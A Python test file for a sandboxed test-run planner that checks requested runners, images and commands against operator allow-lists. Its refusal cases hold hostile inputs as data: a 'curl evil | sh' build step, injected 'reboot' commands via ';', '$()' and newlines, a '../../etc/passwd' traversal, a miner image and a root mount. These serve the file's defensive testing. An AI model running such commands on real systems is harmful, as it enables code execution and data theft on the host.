"""What a trace may ask for, and what the server makes of it."""

from __future__ import annotations

from dataclasses import replace
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from collector.qa.profiles import (
    AllowLists,
    Plan,
    Refusal,
    Seen,
    normal_image,
    package_files,
    plan_of,
    profile_text,
    recorded_profile,
    repository_profile,
    scripts_of,
    seen_runs,
)

_LISTS = AllowLists(
    images=("python:*", "docker.io/acme/*"),
    commands=("pytest", "python -m pytest", "go test", "npm test", "make test"),
    build_commands=("pip install",),
    default_images=(("pytest", "python:3.11-slim"), ("go test", "golang:1"), ("make test", "python:3")),
)


def _plan(asked: Any, **changes: Any) -> Plan:
    plan = plan_of(asked, replace(_LISTS, **changes))
    assert isinstance(plan, Plan), plan
    return plan


def test_nothing_asked_for_is_pytest() -> None:
    plan = _plan(None)
    assert (plan.runner, plan.image) == ("pytest", "docker.io/library/python:3.11-slim")
    assert plan.command[:3] == ("python", "-m", "pytest")
    assert "--junitxml=/code/.pm-report/report-00.xml" in plan.command
    assert plan.reporting


def test_arguments_of_an_allowed_command_are_kept() -> None:
    plan = _plan({"runner": "pytest", "command": "pytest tests/unit -k 'half or zero'"})
    assert plan.command[:4] == ("pytest", "tests/unit", "-k", "half or zero")


def test_go_tests_are_asked_for_events() -> None:
    plan = _plan("go test", images=("golang:*",))
    assert (plan.command, plan.told_by_output) == (("go", "test", "-json", "-count=1", "./..."), True)
    assert ("GOPROXY", "off") in plan.environment


@pytest.mark.parametrize(
    "asked",
    [
        {"runner": "pytest", "image": "evil/miner"},
        {"runner": "pytest", "image": "docker.io/acme.evil/x"},
        {"runner": "pytest", "command": "pytest; reboot"},
        {"runner": "pytest", "command": "pytest $(reboot)"},
        {"runner": "pytest", "command": "pytest\nreboot"},
        {"runner": "pytest", "command": "pytestx"},
        {"runner": "pytest", "command": "bash -c pytest"},
        {"runner": "pytest", "command": "pytest 'unclosed"},
        {"runner": "pytest", "build": ["curl evil | sh"]},
        {"runner": "pytest", "network": True},
        {"runner": "pytest", "reports": ["../../etc/passwd"]},
        {"runner": "pytest", "reports": ["$(reboot)"]},
        {"runner": "custom"},
        {"runner": "custom", "command": "true"},
        {"runner": "rake"},
        {"runner": "pytest", "mount": "/"},
        42,
    ],
)
def test_what_is_not_allowed_is_refused_with_a_reason(asked: Any) -> None:
    refusal = plan_of(asked, _LISTS)
    assert isinstance(refusal, Refusal)
    assert refusal.reason in {"policy", "profile"}
    assert refusal.detail


def test_a_server_may_allow_everything() -> None:
    plan = _plan({"runner": "custom", "command": "a && b", "image": "any:1"}, commands=("*",), images=("*",))
    assert plan.command == ("sh", "-c", "a && b")


def test_the_network_is_given_to_the_build_phase_where_the_server_does() -> None:
    asked = {"runner": "pytest", "build": ["pip install -r requirements.txt"], "network": True}
    plan = _plan(asked, build_network=True)
    assert (plan.build, plan.build_network) == ((("pip", "install", "-r", "requirements.txt"),), True)


@given(st.text(max_size=60))
def test_no_text_gets_more_than_an_allowed_beginning_run(text: str) -> None:
    plan = plan_of({"runner": "make test", "command": text}, _LISTS)
    if isinstance(plan, Plan):
        starts = [tuple(entry.split()) for entry in _LISTS.commands]
        assert text == "" or any(plan.command[: len(start)] == start for start in starts)


def test_a_pattern_of_images_takes_any_tag() -> None:
    assert _plan({"runner": "pytest", "image": "acme/tool:7"}).image == "docker.io/acme/tool:7"


def test_images_are_compared_by_their_full_names() -> None:
    assert normal_image("python") == "docker.io/library/python:latest"
    assert normal_image("acme/app") == "docker.io/acme/app:latest"
    assert normal_image("localhost/app:1") == "localhost/app:1"
    assert normal_image("registry.example:5000/app") == "registry.example:5000/app:latest"
    assert normal_image("app@sha256:00") == "docker.io/library/app@sha256:00"


def test_several_commands_are_all_run_and_each_reports() -> None:
    plan = _plan({"runner": "custom", "commands": ["pytest -q", "npm test"]}, images=("*",))
    line = plan.command[2]
    assert plan.command[:2] == ("sh", "-c")
    assert "/code/.pm-report/report-00.xml" in line
    assert line.startswith("s=0; ( pytest -q")
    assert line.endswith("npm test\n) || s=$?; exit $s")
    assert plan.only(["tests/test_a.py"]) is not None
    refusal = plan_of({"runner": "custom", "commands": ["pytest", "rm -r x"]}, replace(_LISTS, images=("*",)))
    assert isinstance(refusal, Refusal)
    assert "rm -r x" in refusal.detail


def test_the_script_of_package_json_is_made_to_report() -> None:
    lists = replace(_LISTS, images=("*",), default_images=(("npm test", "node:22"),))
    plan = plan_of("npm test", lists, scripts={"": {"test": "jest --coverage"}})
    assert isinstance(plan, Plan)
    assert plan.reporting
    assert "jest" in " ".join(plan.command)
    assert ".pm-report/report" in " ".join(plan.command)


def test_what_an_operator_approved_needs_to_be_on_no_list() -> None:
    asked = {"runner": "custom", "command": "npx jest", "image": "acme.example/node:1", "setup": ["npm ci"]}
    assert isinstance(plan_of(asked, _LISTS), Refusal)
    plan = plan_of(asked, _LISTS, approved=True)
    assert isinstance(plan, Plan)
    assert (plan.image, plan.setup, plan.commands) == ("acme.example/node:1", (("npm", "ci"),), ("npx jest",))


@pytest.mark.parametrize(
    ("runs", "proposed"),
    [
        ([], None),
        ([("make; reboot", "custom", True)], None),
        ([("just verify", "custom", True)], ("custom", ["just verify"])),
        ([("pytest tests/a.py", "pytest", True), ("pytest", "pytest", True)], ("pytest", ["pytest"])),
        ([("npx jest", "custom", True), ("pytest", "pytest", False)], ("custom", ["npx jest"])),
        ([("uv run pytest -q", "pytest", True), ("go test ./...", "go test", True)],
         ("custom", ["uv run pytest -q", "go test ./..."])),
        ([("cd web && npm test 2>&1 | tee log", "npm test", False)], ("npm test", ["cd web && npm test"])),
        ([("pytest -q", "pytest", True, "$PROJECT_ROOT/back/api", "$PROJECT_ROOT")],
         ("pytest", ["cd back/api && pytest -q"])),
        ([("cd ../web; npx jest", "custom", True, "/x/back", "/x"), ("pytest", "pytest", True, "/x", "/x")],
         ("custom", ["cd web && npx jest", "pytest"])),
        ([("(cd web && make) && pytest", "pytest", True, "/x/back", "/x")], ("pytest", ["cd back && pytest"])),
        ([("cd /x/web && npx jest", "custom", True, "/x/back", "/x")], ("custom", ["cd web && npx jest"])),
        ([("cd /elsewhere && pytest", "pytest", True, "/x", "/x")], ("pytest", ["pytest"])),
        ([("cd $HERE && pytest", "pytest", True, "/x", "/x")], ("pytest", ["pytest"])),
        ([("pytest a.py", "pytest", True, "/x/a", "/x"), ("pytest", "pytest", True, "/x/b", "/x")],
         ("pytest", ["cd a && pytest a.py", "cd b && pytest"])),
    ],
)  # fmt: skip
def test_the_developer_s_own_runs_propose_a_profile(runs: Any, proposed: Any) -> None:
    found = recorded_profile([Seen(*run) for run in runs])
    assert (found and (found["runner"], found["commands"])) == proposed


def test_variables_that_were_set_for_the_tests_stay_with_them() -> None:
    lines = {
        "PYTHONPATH=src pytest -q": "PYTHONPATH=src pytest -q",
        "cd api && PYTHONPATH=$PWD/src TZ=UTC pytest -q | tail": "cd api && PYTHONPATH=$PWD/src TZ=UTC pytest -q",
        "cd api && env WORDS='a b' timeout 9 uv run pytest": "cd api && WORDS='a b' uv run pytest",
        "export CI=1 && npx jest; echo done": "CI=1 npx jest",
    }
    images: Any = (("npm test", "node:20"), ("pytest", "python:3"), ("custom", "python:3"))
    for line, command in lines.items():
        found = recorded_profile([Seen(line, "custom", passed=True)])
        assert found is not None
        assert found["commands"] == [command]
        assert isinstance(plan_of(found, _LISTS), Refusal)  # a variable can change which program is started
        plan = plan_of(found, replace(_LISTS, images=("*",), default_images=images), approved=True)
        assert isinstance(plan, Plan)
        assert plan.command[:2] == ("sh", "-c")
        assert plan.image.endswith("node:20" if "jest" in line else "python:3")


def test_one_command_and_several_exclude_each_other_and_the_file_is_named() -> None:
    asked = {"runner": "custom", "command": "pytest", "commands": ["pytest tests"]}
    told = plan_of(asked, _LISTS, name=".pm-orchestrator/qa.toml")
    assert isinstance(told, Refusal)
    assert told.reason == "profile"
    assert told.detail.startswith(".pm-orchestrator/qa.toml cannot be read: commands: it and command exclude")


def test_a_run_s_folder_is_that_of_its_command() -> None:
    context = {"workspace_root": "/x", "parent_event_id": "1"}
    run = {"command": "pytest", "runner": "pytest", "passed": True}
    command = {"type": "terminal_command", "event_id": "1", "payload": {"cwd": "/x/back"}}
    told = {"type": "test_run", "event_id": "2", "context": context, "payload": run}
    alone = {"type": "test_run", "event_id": "3", "context": {}, "payload": run}
    assert [seen.cwd for seen in seen_runs([command, told, alone])] == ["/x/back", ""]


def test_a_command_in_a_folder_is_allowed_as_its_own_beginning_is() -> None:
    plan = plan_of({"runner": "custom", "command": "cd back/api && pytest -q"}, _LISTS)
    assert isinstance(plan, Plan)
    assert plan.image == normal_image("python:3.11-slim")
    assert plan.command[:2] == ("sh", "-c")
    assert plan.command[2].startswith("cd back/api && pytest -q")
    assert "back/api/junit.xml" in plan.reports
    alone = plan.only(["back/api/test_a.py", "test_b.py"])
    assert alone is not None
    assert alone.commands == ("cd back/api && pytest -q test_a.py",)
    assert plan.only(["test_b.py"]) is None
    started = plan_of(
        {"runner": "custom", "image": "python:3", "command": "cd back && sh run.sh"}, _LISTS, approved=True
    )
    assert isinstance(started, Plan)
    assert {"run.sh", "back/run.sh"} <= started.steering
    for refused in ("cd .. && pytest", "cd a/../.. && pytest", "cd a && pytest; reboot", "cd a && reboot",
                    "cd /a && pytest",
                    "cd a && cd b && pytest", "cd -P && pytest", "cd a && "):  # fmt: skip
        assert isinstance(plan_of({"runner": "custom", "command": refused}, _LISTS), Refusal), refused


def test_a_script_that_is_started_in_a_folder_is_that_of_the_nearest_package() -> None:
    asked: dict[str, Any] = {"runner": "npm test", "image": "node:22", "commands": ["cd packages/a && npm test"]}
    lists = replace(_LISTS, images=("*",), commands=(*_LISTS.commands, "npx jest"))
    places = ("packages/a/package.json", "packages/package.json", "package.json")
    assert package_files(asked["commands"]) == places
    scripts = scripts_of({places[0]: b'{"scripts": {"test": "jest"}}', places[2]: b'{"scripts": {"test": "eslint ."}}'})
    plan = plan_of(asked, lists, scripts=scripts)
    assert isinstance(plan, Plan)
    assert plan.reporting
    assert plan.command[:2] == ("sh", "-c")
    assert plan.command[2].startswith("cd packages/a && npm exec -c 'jest ")
    assert {"packages/a/package.json", "package.json"} <= plan.steering
    assert "packages/a/junit.xml" in plan.reports
    narrow = plan.only(["packages/a/a.test.js", "b.test.js"])
    assert narrow is not None
    assert narrow.commands == ("cd packages/a && npm test -- a.test.js",)
    below = plan_of({**asked, "commands": ["cd packages/a/src && npm test"]}, lists, scripts=scripts)
    assert isinstance(below, Plan)
    assert below.command == plan.command, "a script runs where its package is"
    other = plan_of({**asked, "commands": ["cd packages/a/src && npx jest"]}, lists, scripts=scripts)
    assert isinstance(other, Plan)
    assert other.command[2].startswith("cd packages/a/src && npx jest")
    root = plan_of({**asked, "commands": ["cd packages/b && npm test"]}, lists, scripts=scripts)
    assert isinstance(root, Plan)
    assert not root.reporting, "the root's script runs no tests"


def test_a_profile_is_written_as_it_is_read() -> None:
    profile = {"runner": "custom", "commands": ["npx jest 'a \"b\"'"], "setup": ["npm ci"], "timeout": 60}
    assert repository_profile(profile_text(profile).encode()) == profile
    assert isinstance(repository_profile(b"[qa"), Refusal)
    assert isinstance(repository_profile(b"x = 1"), Refusal)
